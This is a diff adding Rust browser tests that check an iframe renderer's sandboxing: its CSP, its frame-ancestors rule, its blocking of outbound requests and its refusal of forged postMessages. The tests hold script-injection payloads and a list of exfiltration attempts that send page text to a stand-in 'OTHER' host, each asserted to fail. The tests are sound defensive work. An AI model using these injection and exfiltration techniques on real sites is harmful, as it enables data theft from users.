@@ -1,0 +1,226 @@
+//! What a frame is made of and who may have it, as a browser enforces it: its code, its embedders,
+//! its network and its messages.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use axum::Router;
+use axum::response::{Html, IntoResponse as _};
+use axum::routing::get;
+use serde_json::{Value, json};
+use tokio::net::TcpListener;
+
+use crate::chromium::Chromium;
+use crate::contracts::{basket, basket_props};
+use crate::world::{Shown, World};
+
+/// The frame the stage shows.
+const FRAME: Option<&str> = Some("iframe");
+
+/// A server of somebody else.
+async fn serve(listener: TcpListener, pages: Router) -> String {
+    let address = listener.local_addr().expect("its address");
+    tokio::spawn(async move { axum::serve(listener, pages).await });
+    address.to_string()
+}
+
+async fn listener() -> TcpListener {
+    TcpListener::bind("127.0.0.1:0").await.expect("a port")
+}
+
+fn viewer(shown: &Shown) -> &str {
+    shown.result["structuredContent"]["viewerUrl"]
+        .as_str()
+        .expect("an address")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_frame_runs_only_code_that_fits_its_hash() {
+    let Some(mut browser) = Chromium::start().await else {
+        return;
+    };
+    let world = World::start().await;
+    let shown = world.show(basket(), basket_props()).await;
+    let token = shown.slice()["wsToken"].as_str().expect("a token");
+    let frame = format!("/frame/{}?wsToken={token}", shown.session);
+    let frame = world.send(world.get(&frame)).await;
+    let html = frame.body.as_str().expect("a page").to_owned();
+    let policy = frame.headers["content-security-policy"].clone();
+    assert!(!policy.to_str().expect("text").contains("nonce"));
+
+    // The same page under the same policy, from elsewhere: as it was, and with one letter changed.
+    let changed = html.replacen("proscenium-guest", "proscenium-ghost", 1);
+    assert_ne!(changed, html);
+    let page = |html: String| {
+        let policy = policy.clone();
+        get(async move || ([("content-security-policy", policy)], Html(html)).into_response())
+    };
+    let pages = Router::new()
+        .route("/same", page(html))
+        .route("/changed", page(changed));
+    let elsewhere = serve(listener().await, pages).await;
+    browser.open(&format!("http://{elsewhere}/same")).await;
+    browser.see(None, "td", "Mug").await;
+    browser.open(&format!("http://{elsewhere}/changed")).await;
+    let drawn =
+        "[document.querySelectorAll('main').length, document.querySelectorAll('script').length]";
+    assert_eq!(browser.evaluate(None, drawn).await, json!([0, 2]));
+
+    // In the frame itself nothing that is put into the page runs.
+    browser.open(&world.stage_url()).await;
+    browser.see(FRAME, "td", "Mug").await;
+    let attempts = "(async () => { \
+        const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more)); \
+        add('script', {textContent: 'globalThis.ran = \"script\"'}); \
+        add('script', {src: URL.createObjectURL(new Blob(['globalThis.ran = \"blob\"']))}); \
+        add('script', {type: 'module', textContent: 'globalThis.ran = \"module\"'}); \
+        add('div', {innerHTML: '<img src=data:, onerror=\"globalThis.ran = 1\"><svg onload=\"globalThis.ran = 2\">'}); \
+        const link = Object.assign(document.createElement('a'), {href: 'javascript:void(globalThis.ran = \"link\")'}); \
+        document.body.append(link); link.click(); \
+        await import(URL.createObjectURL(new Blob(['globalThis.ran = \"import\"'], {type: 'text/javascript'}))).catch(() => {}); \
+        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))); \
+        return globalThis.ran ?? null; })()";
+    assert_eq!(browser.evaluate(FRAME, attempts).await, Value::Null);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn renders_are_embedded_by_whom_the_configuration_names_and_the_stage_by_nobody() {
+    let Some(mut browser) = Chromium::start().await else {
+        return;
+    };
+    let shop = listener().await;
+    let port = shop.local_addr().expect("its address").port();
+    let world = World::start_with(|config| {
+        config.server.embedders = format!("http://shop.example:{port}");
+    })
+    .await;
+    let shown = world.show(basket(), basket_props()).await;
+    let page = format!(
+        "<!doctype html><title>Shop</title><iframe id=page src={viewer}></iframe>\
+         <iframe id=frame src={viewer}/frame></iframe><iframe id=stage src={stage}></iframe>",
+        viewer = viewer(&shown),
+        stage = world.stage_url(),
+    );
+    serve(
+        shop,
+        Router::new().route("/", get(async move || Html(page))),
+    )
+    .await;
+
+    browser.open(&format!("http://shop.example:{port}/")).await;
+    browser.see(Some("#page"), ".s-one", "").await;
+    browser.see(Some("#frame"), "td", "Mug").await;
+    let mounted = "document.querySelectorAll('.s-page, main').length";
+    let stage = Some("#stage");
+    assert_eq!(browser.evaluate(stage, mounted).await, 0, "the stage");
+    browser.open(&format!("http://evil.example:{port}/")).await;
+    for frame in ["#page", "#frame", "#stage"] {
+        assert_eq!(browser.evaluate(Some(frame), mounted).await, 0, "{frame}");
+    }
+    let told = browser.problems().await.to_string();
+    assert!(told.contains("frame-ancestors"), "{told}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_of_a_frame_reaches_a_server_that_is_not_its_own() {
+    let Some(mut browser) = Chromium::start().await else {
+        return;
+    };
+    let world = World::start().await;
+    world.show(basket(), basket_props()).await;
+    let asked = Arc::new(AtomicUsize::new(0));
+    let counter = Arc::clone(&asked);
+    let other = Router::new().fallback(async move || {
+        counter.fetch_add(1, Ordering::SeqCst);
+        [("access-control-allow-origin", "*")]
+    });
+    let other = serve(listener().await, other).await;
+    browser.open(&world.stage_url()).await;
+    browser.see(FRAME, "td", "Mug").await;
+    let attempts = "(async () => { \
+        const url = (way) => `http://OTHER/${way}?${document.querySelector('td').innerText}`; \
+        const add = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; }; \
+        const tried = [ \
+          () => fetch(url('fetch'), {mode: 'no-cors'}), () => new WebSocket(url('socket').replace('http', 'ws')), \
+          () => new EventSource(url('events')), () => navigator.sendBeacon(url('beacon'), 'x'), \
+          () => new RTCPeerConnection({iceServers: [{urls: 'stun:OTHER'}]}).createOffer(), \
+          () => add('img', {src: url('image')}), () => add('video', {src: url('video')}), () => add('iframe', {src: url('frame')}), \
+          () => add('object', {data: url('object')}), () => add('script', {src: url('script')}), \
+          () => add('link', {rel: 'stylesheet', href: url('sheet')}), () => add('link', {rel: 'prefetch', href: url('prefetch')}), \
+          () => add('style', {textContent: `body { background: url(\"${url('css')}\") } @import \"${url('import')}\"; @font-face { font-family: x; src: url(\"${url('font')}\") } * { font-family: x }`}), \
+          () => add('a', {href: url('link'), target: '_blank'}).click(), \
+          () => add('a', {href: url('ping'), ping: url('pinged'), target: '_blank'}).click(), () => window.open(url('window')), \
+          () => import(url('module')), () => { top.location = url('top'); }, () => { parent.location = url('parent'); }, \
+        ]; \
+        for (const way of tried) { try { await Promise.race([way(), new Promise(requestAnimationFrame)]); } catch {} } \
+        const end = performance.now() + 300; \
+        while (performance.now() < end) await new Promise(requestAnimationFrame); })()";
+    browser
+        .evaluate(FRAME, &attempts.replace("OTHER", &other))
+        .await;
+    assert_eq!(asked.load(Ordering::SeqCst), 0);
+    // Nor by going there itself, which costs it its place.
+    for leave in [
+        "location = 'http://OTHER/self'",
+        "document.body.append(Object.assign(document.createElement('form'), {id: 'f', action: 'http://OTHER/form'})), document.getElementById('f').submit()",
+    ] {
+        browser.open(&world.stage_url()).await;
+        browser.see(FRAME, "td", "Mug").await;
+        let leave = leave.replace("OTHER", &other);
+        let leave = format!("void setTimeout(() => {{ {leave}; }}, 0)");
+        browser.evaluate(FRAME, &leave).await;
+        let moment = "new Promise((resolve) => setTimeout(() => resolve(true), 500))";
+        assert_eq!(browser.evaluate(None, moment).await, true);
+        assert_eq!(asked.load(Ordering::SeqCst), 0, "{leave}");
+    }
+    let here = browser.evaluate(None, "location.pathname").await;
+    assert_eq!(here, "/", "the page around it stays where it is");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_message_counts_only_from_the_window_that_may_send_it() {
+    let Some(mut browser) = Chromium::start().await else {
+        return;
+    };
+    const RENDER: Option<&str> = Some("#render");
+    let world = World::start().await;
+    let shown = world.show(basket(), basket_props()).await;
+    // A page with the render, and beside it a frame that speaks as if it were the render's host.
+    let forger = "<script>for (const message of [\
+         {jsonrpc: '2.0', id: 'p1', result: {hostCapabilities: {serverTools: {}}, hostContext: {theme: 'dark'}}},\
+         {jsonrpc: '2.0', method: 'ui/notifications/host-context-changed', params: {theme: 'dark', styles: {variables: {'--color-text-primary': 'red'}}}},\
+         {jsonrpc: '2.0', method: 'ui/notifications/tool-result', params: {_meta: {'ai.ggui/render': {sessionId: 'x', appId: 'x', viewJson: '{}'}}}},\
+         {jsonrpc: '2.0', id: 1, method: 'ui/resource-teardown', params: {}}]) parent.frames[0].postMessage(message, '*');\
+         parent.postMessage('sent', '*')</script>";
+    let page = format!(
+        "<!doctype html><title>Shop</title><script>onmessage = ({{data}}) => data === 'sent' && (document.title = 'Forged')</script>\
+         <iframe id=render src={}/frame></iframe>",
+        viewer(&shown)
+    );
+    let pages = Router::new()
+        .route("/", get(async move || Html(page)))
+        .route("/forger", get(async move || Html(forger)));
+    let elsewhere = serve(listener().await, pages).await;
+    browser.open(&format!("http://{elsewhere}/")).await;
+    browser.see(RENDER, "[data-live='open'] td", "Mug").await;
+    let forge = "new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '/forger'; \
+        addEventListener('message', ({data}) => data === 'sent' && resolve()); document.body.append(frame); })";
+    browser.evaluate(None, forge).await;
+    // A click still finds its way, so nothing of it was taken for the host's word.
+    browser.fill(RENDER, "[data-row='A1'] input", "2").await;
+    let change = "[data-row='A1'] [data-action='setQuantity']";
+    browser.click(RENDER, change).await;
+    browser.see(RENDER, "[data-row='A1']", "Sent").await;
+    let worn = "[document.documentElement.dataset.theme ?? '', document.querySelector('main').dataset.live]";
+    assert_eq!(browser.evaluate(RENDER, worn).await, json!(["", "open"]));
+
+    // The stage hears a frame's word from that frame alone.
+    browser.open(&world.stage_url()).await;
+    browser.see(FRAME, "[data-live='open'] td", "Mug").await;
+    let spoken = "(() => { const before = document.querySelector('iframe').style.height; \
+        for (const message of [{jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {height: 9000}}, \
+          {type: 'ggui:observe', event: {kind: 'forged'}}, {type: 'ggui:bootstrap-failed', reason: 'X', message: 'forged'}]) postMessage(message, '*'); \
+        return new Promise((resolve) => setTimeout(() => resolve([document.querySelector('iframe').style.height === before, \
+          document.querySelectorAll(\"[data-kind='forged'], [data-failed='true']\").length]), 100)); })()";
+    assert_eq!(browser.evaluate(None, spoken).await, json!([true, 0]));
+}
